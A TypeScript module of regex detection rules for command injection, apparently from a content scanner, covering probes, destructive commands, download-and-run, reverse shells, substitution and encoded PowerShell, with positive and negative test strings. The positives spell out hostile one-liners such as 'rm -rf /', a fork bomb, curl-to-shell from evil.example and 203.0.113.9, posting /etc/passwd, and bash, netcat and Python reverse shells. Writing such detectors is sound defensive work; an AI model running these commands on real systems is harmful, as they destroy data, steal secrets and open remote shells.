import type { ContentRule } from './rule';

/** Commands that only show who or where one is: harmless, and the first thing an intruder tries. */
const PROBE = String.raw`(?:whoami|id|uname(?:\s-\w{1,3})?|hostname|ifconfig|ipconfig|netstat|ls\s(?:-\w{1,4}\s)?/|dir\s[a-z]:|ping\s-[cn]\s?\d|sleep\s\d{1,3}|cat\s{1,5}[\w./*?$\{\}-]{0,40}(?:passwd|shadow|hosts|flag|\.env|id_rsa)|nslookup\s|type\s[a-z]:)`;
/** A host that a command is fetched from when nobody may know: by bare address, without TLS, or at a place to paste text. */
const SHADY = String.raw`(?:http://(?!localhost\b|127\.)[\w.:-]{3,100}|(?:https?://)?\d{1,3}(?:\.\d{1,3}){3}|https?://(?:[\w-]{1,40}\.)?(?:pastebin\.com|paste\.ee|transfer\.sh|ngrok\.io|[\w-]{1,40}\.ngrok[\w.-]{2,20}|[\w-]{1,40}\.onion|evil\.[\w.]{2,20}|attacker\.[\w.]{2,20}))`;
const SHELL = String.raw`(?:sudo\s)?(?:/bin/|/usr/bin/)?(?:ba|z|da|k)?sh\b`;

const pattern = (source: string): RegExp => new RegExp(source, 'gim');

export const COMMAND_INJECTION: readonly ContentRule[] = [
  {
    id: 'command_probe',
    kind: 'command_injection',
    hints: [';', '|', '&', '%0a', '%3b', '%7c', '%26'],
    // Behind a value (an address, a file name, a quote, the value of a field), not behind another command.
    pattern: pattern(
      String.raw`(?=[\s;|&%])(?<=(?:\d\.\d{1,3}|\.(?:txt|jpe?g|png|gif|pdf|csv|com|org|net|html?|log)|['")]|^[\w.-]{1,40}|=[\w./@-]{0,60}))\s{0,3}(?:;|\|\|?|&&?|%0a|%3b|%7c|%26)(?:\s|%20|\+){0,5}${PROBE}(?=\s{0,3}(?:$|[;#|&'")]|%))|^\s{0,3}(?:;|\|\|?|&&?)\s{0,5}${PROBE}(?=\s{0,3}(?:$|[;#|&'"]))`,
    ),
    positives: [
      `8.8.8.8«; whoami»`,
      `ping 1.1.1.1« && cat /etc/passwd»`,
      `host=a«|id»`,
      `«; cat /etc/passwd»`,
      `report.pdf« && sleep 10»`,
      `q=x«%3Bid»`,
    ],
    negatives: [
      'a && b',
      'first; then second',
      'cat notes.txt | grep idea',
      'const a = 1; id = 2;',
      'SELECT a; id, name',
      'cd src && ls',
      'echo "done" | tee id.txt',
      'a.x; identity(b)',
    ],
  },
  {
    id: 'command_destructive',
    kind: 'command_injection',
    hints: ['rm ', 'mkfs', 'dd ', ':(){', 'chmod', 'format', 'del '],
    pattern: pattern(
      String.raw`(?:;|&&|\|\|?|\$\(|^)\s{0,5}(?:sudo\s{1,3})?(?:rm\s{1,5}(?:-[a-z-]{1,20}\s{1,5}){0,4}-[a-z]{0,4}[rf][a-z]{0,4}\s{1,5}(?:-[a-z-]{1,20}\s{1,5}){0,3}["']?(?:/(?:\*|etc|home|usr|bin|boot|lib|root|sys)?(?=["']?\s{0,3}(?:$|[\s;#|&)]))|~/?(?=\s|$|;)|\$home/?(?=\s|$|;))|rm\s[^\n;|&]{0,40}--no-preserve-root|mkfs(?:\.\w{1,8})?\s{1,3}/dev/|dd\s{1,3}[^\n;|&]{0,60}of=/dev/(?:sd|hd|nvme|vd|disk)|chmod\s{1,3}(?:-r\s{1,3})?0?777\s{1,3}/(?=\s|$)|del\s{1,3}(?:/[a-z]\s{1,3}){1,4}c:[\\/])|:\(\)\s?\{\s?:\s?\|\s?:\s?&\s?\}\s?;\s?:`,
    ),
    positives: [
      `file.txt«; rm -rf /»`,
      'x «&& rm -rf --no-preserve-root /»',
      'a«; dd if=/dev/zero of=/dev/sd»a',
      '«:(){ :|:& };:»',
      'x«| rm -fr ~»',
    ],
    negatives: [
      'cd build && rm -rf dist',
      'RUN apt-get update && rm -rf /var/lib/apt/lists/*',
      'npm ci; rm -rf node_modules',
      'rm -f *.o',
      'dd if=disk.img of=backup.img bs=4M',
      'chmod 755 /usr/local/bin/tool',
      'rm -rf /tmp/build',
    ],
  },
  {
    id: 'command_download',
    kind: 'command_injection',
    hints: ['curl', 'wget', 'iwr', 'downloadstring', 'invoke-', 'irm'],
    // The installers of honest tools come over TLS from a named host.
    pattern: pattern(
      String.raw`\b(?:curl|wget)\s[^|\n]{0,200}?${SHADY}[^|\n]{0,200}\|\s{0,5}(?:${SHELL}|python\d?\b|perl\b|node\b)|\b(?:ba|z)?sh\s{1,3}(?:-c\s{1,3}["']?\$\(|<\()(?:curl|wget)\s[^)\n]{0,100}?${SHADY}|(?<=['"\d]\s{0,3}(?:;|\||&&)\s{0,3})(?:curl|wget)\s[^|\n]{1,200}\|\s{0,5}${SHELL}|\b(?:curl|wget)\s[^\n]{0,100}?(?:--data|--data-binary|-d|-F|--post-file)[ =]\S{0,10}@?/?(?:etc/(?:passwd|shadow)|\S{0,30}(?:\.ssh/|\.aws/credentials|\.env\b))|downloadstring\s?\(\s?["']${SHADY}|\b(?:iex|invoke-expression)\b[^\n]{0,60}?\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\b[^\n]{0,60}?${SHADY}`,
    ),
    positives: [
      `x; «curl http://evil.example/a | sh»`,
      `«wget -qO- 203.0.113.9/run | bash»`,
      `a'; «curl https://x.example/i.sh | bash»`,
      `«curl -d @/etc/passwd» https://x.example`,
      `«bash -c "$(curl -s http://203.0.113.9»/a)"`,
      `(New-Object Net.WebClient).«DownloadString('http://203.0.113.9»/a')`,
    ],
    negatives: [
      'curl -fsSL https://get.example.com/install.sh | sh',
      'wget -qO- https://example.com/key.asc | sudo apt-key add -',
      'curl http://localhost:8080/health | sh -x',
      'curl -d @payload.json https://example.com/api',
      `curl 'https://example.com/a' | jq .`,
    ],
  },
  {
    id: 'command_reverse_shell',
    kind: 'command_injection',
    hints: ['/dev/tcp/', '/dev/udp/', 'nc ', 'ncat', 'mkfifo', 'fsockopen', 'socket', 'pty.spawn', '-i'],
    pattern: pattern(
      String.raw`(?:>&|<>?|&>|>)\s?/dev/(?:tcp|udp)/[\w.$\{\}-]{1,60}/|\b(?:nc|ncat|netcat)(?:\.exe)?\s[^\n|;]{0,60}?(?:-[a-z]{0,4}[ec]\s?|--exec\s)\s?(?:/bin/|cmd)|\bmkfifo\s[^\n]{0,40};[^\n]{0,80}\b(?:nc|openssl|telnet)\b|\bphp\s{1,3}-r\s{1,3}["'][^\n]{0,20}fsockopen\(|\bperl\s{1,3}-e\s{1,3}["']use socket|\bpython\d?\s{1,3}-c\s{1,3}["'][^\n]{0,200}socket\.socket\([^\n]{0,200}(?:subprocess|pty\.spawn|dup2)|\bruby\s{1,3}-rsocket\s`,
    ),
    positives: [
      'bash -i «>& /dev/tcp/203.0.113.9/»4444 0>&1',
      '«nc -e /bin/»sh 203.0.113.9 4444',
      `«python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",1));os.dup2»(s.fileno(),0)'`,
      '«mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc» 203.0.113.9 1',
    ],
    negatives: [
      'nc -zv db.example.com 5432',
      'import socket\ns = socket.socket()',
      'mkfifo pipe && cat pipe',
      'docker run -it -e /bin/x image',
    ],
  },
  {
    id: 'command_substitution',
    kind: 'command_injection',
    hints: ['$(', '`', '${ifs', '$ifs', '<('],
    // Scripts substitute commands all the time; values of fields, host names and addresses do not.
    pattern: pattern(
      String.raw`(?<=^[\w.-]{0,40}=?["']?)\$\(\s{0,3}${PROBE}\s{0,3}\)(?=["']?\s{0,3}$(?!\n))|(?<=[?&][\w-]{1,40}=[^\s&]{0,40})\$\([^)\n]{1,100}\)|\$\(\s{0,3}(?:whoami|id|hostname)\s{0,3}\)(?=\.[a-z0-9-]{1,40}\.[a-z])|\$\(\s{0,3}cat\s{1,3}/etc/(?:passwd|shadow)\s{0,3}\)|(?<=[\w=;|&/])${'`'}\s{0,3}${PROBE}\s{0,3}${'`'}|\b(?:cat|curl|wget|ls|id|nc|bash|sh|ping|rm|echo)\$\{?ifs\b`,
    ),
    positives: [
      `name=«$(whoami)»`,
      `/x?host=«$(curl x.example)»`,
      `ping «$(whoami)».x.example.com`,
      'a=x«`id`»',
      '«cat${IFS»}/etc/passwd',
      'echo «$(cat /etc/passwd)»',
    ],
    negatives: [
      'VERSION=$(cat VERSION)\nexport VERSION',
      'sudo chown $(whoami) /srv/app',
      'Run `whoami` to see your name.',
      'use `npm test` | tee log',
      'USER_ID=$(id -u) docker compose up',
      'const a = $(document).ready(run);',
    ],
  },
  {
    id: 'command_encoded',
    kind: 'command_injection',
    hints: ['powershell', 'pwsh', 'base64', 'xxd', 'frombase64string'],
    pattern: pattern(
      String.raw`\b(?:powershell|pwsh)(?:\.exe)?\s[^\n]{0,120}?-(?:e|en|enc|enco|encodedcommand|ec)\s{1,3}["']?[a-z0-9+/=]{20}|\|\s{0,3}base64\s{1,3}(?:-d|-D|--decode)\s{0,3}\|\s{0,3}(?:${SHELL}|python\d?\b|perl\b)|\|\s{0,3}xxd\s{1,3}-r[^\n|]{0,10}\|\s{0,3}${SHELL}|\b(?:iex|invoke-expression)\b[^\n]{0,80}?frombase64string`,
    ),
    positives: [
      '«powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3»AC0A',
      'echo cm0gLXJmIC8= «| base64 -d | sh»',
      '«powershell.exe -EncodedCommand ZQBjAGgAbwAgADEAMgAz»AA==',
    ],
    negatives: [
      'echo aGVsbG8= | base64 -d',
      'powershell -ExecutionPolicy Bypass -File build.ps1',
      'kubectl get secret x -o json | base64 --decode | jq .',
    ],
  },
  {
    id: 'command_shell',
    kind: 'command_injection',
    hints: ['-c', '-i', '/c'],
    pattern: pattern(
      String.raw`(?<=['"\w.])\s{0,3}(?:;|\|\|?|&)\s{0,5}(?:/bin/)?(?:ba|z)?sh\s{1,5}-[ic]\b|(?<=['"\d]\s{0,3})(?:\||&|;)\s{0,5}cmd(?:\.exe)?\s{1,3}/c\s`,
    ),
    positives: [`x« | bash -c» 'id'`, `a.txt«; sh -i» x`, `"x" «& cmd /c »dir`],
    negatives: ['docker exec web bash -c "ls"', 'ssh host sh -c ls', `RUN ["sh", "-c", "ls"]`],
  },
];
